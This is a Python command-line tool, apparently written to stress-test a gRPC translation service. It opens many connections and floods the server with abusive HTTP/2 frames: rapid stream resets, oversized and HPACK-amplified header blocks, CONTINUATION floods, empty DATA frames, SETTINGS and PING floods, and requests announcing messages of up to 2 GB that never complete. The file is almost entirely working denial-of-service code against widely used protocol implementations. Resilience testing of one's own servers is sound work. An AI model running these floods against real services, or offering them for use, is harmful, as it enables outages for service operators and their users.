"""A program that attacks a gRPC port with HTTP/2 frames: http2_attacker.py ADDRESS ATTACK CONNECTIONS SECONDS [TOKEN]

It prints what it has sent.  A program, so that it does not slow down those who measure beside it.
"""

import collections
import functools
import itertools
import selectors
import socket
import struct
import sys
import time

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CALLS = 60  # of a connection at a time
FRAME = 16384
# Which read one message, and one or more.
ONE = ["/dragoman.v1.TranslationService/Translate", "/dragoman.v1.TranslationService/TranslateStream",
       "/dragoman.v1.MemoryService/LearnSegments", "/inference.GRPCInferenceService/ServerLive",
       "/xds.service.orca.v3.OpenRcaService/StreamCoreMetrics", "/grpc.health.v1.Health/Check",
       "/grpc.health.v1.Health/Watch", "/dragoman.v1.TranslationService/Nothing"]
SEVERAL = ["/dragoman.v1.TranslationService/TranslateBulk", "/dragoman.v1.TranslationService/TranslateDocument"]
# The bytes that each of these announces, and sends all but one of.
MESSAGES = {"messages": (ONE, 1 << 20), "streams": (SEVERAL, 1 << 20), "gigabytes": (ONE[:3], 1 << 31)}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field whose strings have less than 127 bytes."""
    return bytes((0, len(name))) + name.encode() + bytes((len(value),)) + value.encode()


@functools.cache
def head(path, token):
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers",
              "content-type": "application/grpc"}
    if token:
        fields["authorization"] = "Bearer " + token
    return b"".join(literal(*field) for field in fields.items())


class Connection:
    """One that reads what comes, and sends what `more` returns whenever it can."""

    def __init__(self, address, token):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)))
        self.socket.setblocking(False)
        self.token = token
        self.stream = -1
        self.out = bytearray(PREFACE + frame(SETTINGS, 0, 0))
        self.read = b""
        self.counts = collections.Counter()

    def next_stream(self):
        self.stream += 2
        self.counts["calls"] += 1
        return self.stream

    def send(self):
        if len(self.out) < 1 << 18:
            self.out += self.more()
        if self.out:
            sent = self.socket.send(self.out[:1 << 18])
            self.counts["bytes"] += sent
            del self.out[:sent]

    def receive(self):
        received = self.socket.recv(1 << 16)
        if not received:
            raise ConnectionError
        self.read += received
        while len(self.read) >= 9:
            size, kind, flags = int.from_bytes(self.read[:3], "big"), self.read[3], self.read[4]
            stream, payload = int.from_bytes(self.read[5:9], "big"), self.read[9:9 + size]
            if len(payload) < size:
                break
            self.read = self.read[9 + size:]
            if kind == GOAWAY:
                raise ConnectionError
            if kind in (SETTINGS, PING) and not flags & ACK:
                self.out += frame(kind, ACK, 0, payload if kind == PING else b"")
            self.on_frame(kind, flags, stream, payload)

    def more(self):
        raise NotImplementedError

    def on_frame(self, kind, flags, stream, payload):
        pass


class Messages(Connection):
    """Calls whose messages never end; one that is reset is replaced."""

    def __init__(self, address, token, paths, size):
        super().__init__(address, token)
        self.heads = [head(path, token) for path in paths]
        self.size = size
        self.initial, self.window = 65535, 65535
        self.calls = {}  # stream: [window, bytes that are left]

    def more(self):
        out = bytearray()
        while len(self.calls) < CALLS and len(out) < 1 << 16:
            stream = self.next_stream()
            out += frame(HEADERS, END_HEADERS, stream, self.heads[stream // 2 % len(self.heads)])
            out += frame(DATA, 0, stream, b"\0" + struct.pack(">I", self.size))
            self.calls[stream] = [self.initial - 5, self.size - 1]
            self.window -= 5
        for stream, call in self.calls.items():
            count = min(*call, self.window, FRAME)
            if count > 0 and len(out) < 1 << 18:
                out += frame(DATA, 0, stream, bytes(count))
                call[0] -= count
                call[1] -= count
                self.window -= count
        return out

    def on_frame(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == 4:
                    for call in self.calls.values():
                        call[0] += value - self.initial
                    self.initial = value
        elif kind == WINDOW_UPDATE and stream == 0:
            self.window += int.from_bytes(payload, "big")
        elif kind == WINDOW_UPDATE and stream in self.calls:
            self.calls[stream][0] += int.from_bytes(payload, "big")
        elif kind == RESET or (kind == HEADERS and flags & END_STREAM):
            self.counts["ends"] += 1
            self.calls.pop(stream, None)


class Frames(Connection):
    """Frames of one kind, again and again."""

    def __init__(self, address, token, make):
        super().__init__(address, token)
        self.make = make

    def more(self):
        return b"".join(self.make(self) for _ in range(100))


def reset(connection):
    stream = connection.next_stream()
    return frame(HEADERS, END_HEADERS, stream, head(ONE[stream // 2 % len(ONE)], connection.token)) + \
        frame(RESET, 0, stream, struct.pack(">I", 8))


def much_metadata(connection):
    fields = b"".join(literal(f"x-{i}", "v" * 100) for i in range(120))
    return frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), head(ONE[0], connection.token) + fields)


def expanding_metadata(connection):
    """One field of 3 kB, which is then named by one byte 13,000 times."""
    value = b"v" * 3000
    fields = b"\x40\x01x\x7f" + bytes((len(value) - 127 & 0x7f | 0x80, len(value) - 127 >> 7)) + value
    return frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(),
                 head(ONE[0], connection.token) + fields + b"\xbe" * 13000)


def continuation(connection):
    fields = b"".join(literal(f"x-{i}", "v" * 100) for i in range(140))
    if connection.stream > 0:
        return frame(CONTINUATION, 0, connection.stream, fields)
    return frame(HEADERS, 0, connection.next_stream(), head(ONE[0], connection.token) + fields)


def empty_data(connection):
    if connection.stream > 0:
        return frame(DATA, 0, connection.stream)
    return frame(HEADERS, END_HEADERS, connection.next_stream(), head(ONE[0], connection.token))


FRAMES = {
    "metadata": much_metadata, "expanding metadata": expanding_metadata, "continuations": continuation,
    "empty data": empty_data, "settings": lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
    "pings": lambda _: frame(PING, 0, 0, bytes(8)),
}


def attack(address, name, connections, seconds, token=""):
    """The name is of MESSAGES or FRAMES, "frames" for all of these, or "resets"."""
    makes = itertools.cycle(FRAMES.values() if name == "frames" else [FRAMES.get(name, reset)])

    def connect():
        connection = Messages(address, token, *MESSAGES[name]) if name in MESSAGES else \
            Frames(address, token, next(makes))
        selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
    counts = collections.Counter()
    selector = selectors.DefaultSelector()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(selector.get_map()) < connections:
            connect()
        busy = False
        for key, events in selector.select(0.1):
            connection = key.data
            before = connection.counts["bytes"]
            try:
                if events & selectors.EVENT_READ:
                    connection.receive()
                    busy = True
                if events & selectors.EVENT_WRITE:
                    connection.send()
            except BlockingIOError:
                pass
            except OSError:
                counts["connections"] += 1
                counts.update(connection.counts)
                selector.unregister(connection.socket)
                connection.socket.close()
                continue
            busy = busy or connection.counts["bytes"] > before
        if not busy:
            time.sleep(0.002)
    for key in list(selector.get_map().values()):
        counts.update(key.data.counts)
    return counts


if __name__ == "__main__":
    sent = attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), *sys.argv[5:])
    print(", ".join(f"{count} {name}" for name, count in sorted(sent.items())), flush=True)
